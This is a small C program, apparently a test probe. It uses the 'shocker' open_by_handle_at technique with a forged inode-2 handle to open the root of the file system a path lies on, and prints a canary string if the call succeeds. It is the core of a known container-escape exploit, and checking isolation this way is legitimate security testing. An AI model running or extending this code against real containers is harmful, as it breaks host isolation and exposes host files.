/* ohandle PATH: opens the root of the file system that PATH lies on, by its handle (“shocker”). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

int main(int count, char **words) {
  int at = open(count > 1 ? words[1] : ".", O_RDONLY);
  struct file_handle *handle = calloc(1, sizeof *handle + 8);
  unsigned int root[2] = {2, 0};
  handle->handle_bytes = 8;
  handle->handle_type = 1;
  memcpy(handle->f_handle, root, sizeof root);
  if (open_by_handle_at(at, handle, O_RDONLY) < 0) return 1;
  puts("CANARY-HANDLE");
  return 0;
}
